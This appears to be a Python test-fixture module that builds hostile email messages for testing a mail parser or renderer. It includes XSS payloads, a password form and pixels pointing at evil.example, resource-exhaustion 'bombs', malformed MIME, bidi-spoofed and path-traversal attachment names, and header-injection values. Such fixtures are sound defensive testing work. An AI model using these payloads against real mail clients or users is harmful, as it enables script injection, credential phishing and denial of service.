"""Mail as nobody should send it: each factory makes one message that is made to hurt whoever reads it."""

import base64
from collections.abc import Callable

HOSTILE_HTML = (
    '<p onclick="alert(1)" style="position: fixed; top: 0; width: expression(alert(1))">Hello</p>'
    "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script></svg>"
    '<a href="javascript:alert(1)">click</a><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    '<form action="https://evil.example"><input name="password"></form><base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example">'
    '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/pixel) }</style>'
    '<img src="https://evil.example/pixel.png">'
)
"""What runs, asks and loads, in one document."""


def a_mail(body: bytes, *fields: bytes, content_type: bytes = b"text/plain; charset=utf-8") -> bytes:
    """A message of one part, with these fields beside the usual ones."""
    header = (b"From: Bert <bert@example.org>", b"Subject: Hello", b"Content-Type: " + content_type, *fields)
    return b"\r\n".join((*header, b"", body))


def parts(*inner: bytes, kind: bytes = b"mixed", boundary: bytes = b"frontier", closed: bool = True) -> bytes:
    """A message of several parts, each with its own header."""
    header = b'From: bert@example.org\r\nContent-Type: multipart/%s; boundary="%s"\r\n\r\n' % (kind, boundary)
    lines = b"".join(b"--%s\r\n%s\r\n" % (boundary, part) for part in inner)
    return header + lines + (b"--%s--\r\n" % boundary if closed else b"")


def a_part(body: bytes, content_type: bytes = b"text/plain", *fields: bytes) -> bytes:
    """A part for ``parts``."""
    return b"\r\n".join((b"Content-Type: " + content_type, *fields, b"", body))


def html_mail(document: str = HOSTILE_HTML) -> bytes:
    """A message of nothing but HTML."""
    return a_mail(document.encode(), content_type=b"text/html; charset=utf-8")


def nested(depth: int) -> bytes:
    """Parts within parts, as deep as is said."""
    return b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(depth)) + b"\nx"


def nested_messages(depth: int) -> bytes:
    """A message within a message, and so on."""
    return b"Content-Type: message/rfc822\n\n" * depth + b"Subject: innermost\n\nx"


def many_parts(count: int) -> bytes:
    """So many parts side by side."""
    return b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * count + b"--b--\n"


def boundary_like_lines(count: int) -> bytes:
    """Lines that begin like the boundary and are none."""
    return b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--bx\n" * count


def huge_header(octets: int) -> bytes:
    """A header that does not end before so many octets."""
    return b"Subject: " + b"a" * octets + b"\n\nHello"


def many_fields(count: int) -> bytes:
    """So many header fields."""
    return b"X-Field: value\n" * count + b"\nHello"


def folded_for_ever(count: int) -> bytes:
    """One field of so many lines."""
    return b"Subject: a\n" + b" b\n" * count + b"\nHello"


def half_encoded_words(count: int) -> bytes:
    """Encoded words that begin and do not end."""
    return b"Subject: " + b"=?utf-8?q?" * count + b"\nFrom: " + b'=?b?b?"<(' * count + b"\n\nHello"


def unending_parameters(count: int) -> bytes:
    """Parameters of a type that begin with a quote and do not end."""
    return b"Content-Type: text/plain" + b'; name*0*="' * count + b"\n\nHello"


def line_breaks(octets: int) -> bytes:
    """Nothing but ends of lines."""
    return b"\n" * octets


def deep_html(depth: int) -> bytes:
    """Elements within elements, as deep as is said."""
    return html_mail("<div>" * depth)


def multiplying_html(count: int) -> bytes:
    """Formatting that is never ended, which parsers of HTML begin anew in every paragraph."""
    return html_mail("<p>" + "".join(f"<font size={n}>" for n in range(count)) + "<p>x" * count)


def growing_html(count: int) -> bytes:
    """Signs that each become several."""
    return html_mail("<" * count)


def deep_css(depth: int) -> bytes:
    """Blocks within blocks in a style sheet."""
    return html_mail(f"<style>{'a{b:(' * depth}</style>x")


def repeated_image(times: int, octets: int) -> bytes:
    """One image of the message, shown over and over."""
    image = base64.encodebytes(b"\x89PNG\r\n\x1a\n" + bytes(octets))
    return parts(
        a_part(b'<img src="cid:a@b">' * times, b"text/html"),
        a_part(image, b"image/png", b"Content-ID: <a@b>", b"Content-Transfer-Encoding: base64"),
        kind=b"related",
    )


BOMBS: dict[str, Callable[[], bytes]] = {
    "nested": lambda: nested(50_000),
    "nested messages": lambda: nested_messages(50_000),
    "parts": lambda: many_parts(10_000),
    "millions of parts": lambda: many_parts(5_000_000),
    "boundary-like lines": lambda: boundary_like_lines(5_000_000),
    "huge header": lambda: huge_header(20_000_000),
    "many fields": lambda: many_fields(1_000_000),
    "folded for ever": lambda: folded_for_ever(1_000_000),
    "half encoded words": lambda: half_encoded_words(20_000),
    "unending parameters": lambda: unending_parameters(20_000),
    "line breaks": lambda: line_breaks(48_000_000),
    "deep HTML": lambda: deep_html(400_000),
    "multiplying HTML": lambda: multiplying_html(20_000),
    "growing HTML": lambda: growing_html(2_000_000),
    "deep CSS": lambda: deep_css(100_000),
    "repeated image": lambda: repeated_image(10_000, 1_000_000),
}
"""What is made to take time and memory."""

BROKEN: dict[str, bytes] = {
    "nothing": b"",
    "no header": b"Hello there,\r\nthis is no header.\r\n",
    "header only": b"Subject: Hello\r\nFrom: bert@example.org",
    "no blank line": b"Subject: Hello\r\nHello there, this is no field\r\n",
    "NULs": b"Subject: a\0b\r\n\r\nHello\0there",
    "no boundary": b"Content-Type: multipart/mixed\r\n\r\nHello",
    "boundary never seen": b"Content-Type: multipart/mixed; boundary=x\r\n\r\nHello",
    "boundary never closed": parts(a_part(b"Hello"), closed=False),
    "unknown charset": a_mail(b"Hello \xff", content_type=b"text/plain; charset=klingon"),
    "charset that transforms": a_mail(b"Hello", content_type=b"text/plain; charset=zlib"),
    "charset that takes ages": a_mail(b"-" * 400_000 + b"a" * 400_000, content_type=b"text/plain; charset=punycode"),
    "broken UTF-8": a_mail(b"Hello \xc3\x28"),
    "broken base64": a_mail(b"SGVs*bG8=====!!", b"Content-Transfer-Encoding: base64"),
    "base64 of no length": a_mail(b"S", b"Content-Transfer-Encoding: base64"),
    "broken quoted-printable": a_mail(b"Hello =ZZ =4 =", b"Content-Transfer-Encoding: quoted-printable"),
    "unknown encoding": a_mail(b"Hello", b"Content-Transfer-Encoding: x-rot13"),
    "8-bit header": b"Subject: Gr\xfc\xdfe\r\nFrom: J\xf6rg <j@example.org>\r\n\r\nHello",
    "broken encoded words": b"Subject: =?utf-8?b?4?= =?x?q?a=ZZ?= =??b??= =?utf-8?q?=C3?= =?utf-8?q?=A9?=\r\n\r\nHello",
    "absurd date": b"Date: Mon, 99 Foo 99999999999999999999 99:99:99 +99999999\r\n\r\nHello",
    "date of too many digits": b"Date: 1 Jan " + b"9" * 5_000 + b" 00:00:00 +0000\r\n\r\nHello",
    "type that is none": b"Content-Type: ;;;===\0\r\nContent-Disposition: \xff\xff; filename\r\n\r\nHello",
    "surrogates": a_mail(b"+2AA-", content_type=b"text/plain; charset=utf-7"),
    "uuencoded": a_mail(b"begin 644 a.txt\r\n#0V%T\r\n`\r\nend\r\n"),
    "parameter of a huge place": b"Content-Type: text/plain; name*" + b"9" * 5_000 + b"=a\r\n\r\nHello",
}
"""What is malformed, small as it is."""

_SCRIPT = b"<script>alert(1)</script><img src=x onerror=alert(1)>"
_BIDI = "\u202e\u2066gpj.exe\u202d\u200f\u2069".encode()

FIELDS: dict[str, bytes] = {
    "script in every field": b"\r\n".join(
        name + b": " + _SCRIPT
        for name in (b"From", b"To", b"Cc", b"Bcc", b"Reply-To", b"Subject", b"Date", b"Message-ID", b"X-<b>field")
    )
    + b"\r\n\r\n"
    + _SCRIPT,
    "script as a name and as an address": (
        b'From: "' + _SCRIPT + b'" <"<svg onload=alert(1)>"@evil.example>\r\n'
        b"To: =?utf-8?q?=3Cscript=3Ealert=281=29=3C/script=3E?= <javascript:alert(1)@evil.example>\r\n"
        b"Subject: =?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=\r\n\r\njavascript:alert(1)\r\n"
        b'https://evil.example/"onmouseover="alert(1)\r\n'
    ),
    "templates": a_mail(b"{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>", b"X: __proto__"),
    "names of prototypes": b"From: __proto__ <constructor>\r\nSubject: __proto__\r\n\r\n__proto__",
    "turned around": b"From: " + _BIDI + b" <a@example.org>\r\nSubject: Invoice " + _BIDI + b"\r\n\r\n" + _BIDI,
    "marks without end": b"Subject: H" + "\u0301".encode() * 200 + b"\r\n\r\nH" + "\u0301".encode() * 50_000,
    "marks without end in HTML": html_mail("<p>H" + "&#769;" * 50_000 + "<p>H" + "\u0301" * 50_000),
    "a long subject": b"Subject: " + b"long " * 2_000 + b"\r\nFrom: " + b"a" * 5_000 + b"@example.org\r\n\r\nHello",
    "a word without end": b"Subject: " + b"w" * 10_000 + b"\r\n\r\n" + b"w" * 100_000,
    "NULs and controls": b"Subject: a\0b\x07\x1b[31m\x7f\r\nFrom: \0 <\0@\0>\r\n\r\nHello\0\x08\x1b]0;x\x07",
    "thousands of recipients": b"To: " + b", ".join(b"u%d@example.org" % n for n in range(5_000)) + b"\r\n\r\nHello",
    "in the year 9999": b"Date: Fri, 31 Dec 9999 23:59:59 +0000\r\nSubject: Later\r\n\r\nHello",
    "in the year 1": b"Date: Mon, 1 Jan 0001 00:00:00 +0000\r\nSubject: Earlier\r\n\r\nHello",
    "before 1970": b"Received: from a by b; Wed, 1 Jan 1902 00:00:00 +0000\r\nSubject: Old\r\n\r\nHello",
    "in no zone at all": b"Date: Thu, 26 Nov 2026 10:00:00 +9999\r\nSubject: Nowhere\r\n\r\nHello",
}
"""What is made to break out of where a field is shown, or to lead its reader astray."""

_NAMES: dict[str, bytes] = {
    "path": b"../../../../etc/passwd",
    "Windows path": b"C:\\Windows\\System32\\evil.exe",
    "script": _SCRIPT.replace(b'"', b"'"),
    "turned around": _BIDI,
    "long": b"n" * 5_000 + b".txt",
    "device": b"NUL",
    "dots": b"..",
    "field in a field": b"a.txt\r\n Set-Cookie: x=y",
    "controls": b"a\0b\x07\x1b.txt",
    "nothing": b"",
}


def named_file(name: bytes, content_type: bytes = b"application/octet-stream") -> bytes:
    """A message with a file of this name."""
    return parts(
        a_part(b"See the file."),
        a_part(_SCRIPT, content_type, b'Content-Disposition: attachment; filename="' + name + b'"'),
    )


FILES: dict[str, bytes] = {
    **{f"file: {what}": named_file(name) for what, name in _NAMES.items()},
    **{
        f"file: {content_type.decode()}": named_file(b"page", content_type)
        for content_type in (b"text/html", b"image/svg+xml", b"application/xhtml+xml", b"text/xml", b"<script>/x")
    },
    "file: message": parts(a_part(html_mail(), b"message/rfc822")),
}
"""Files whose names or kinds lead elsewhere, or run."""
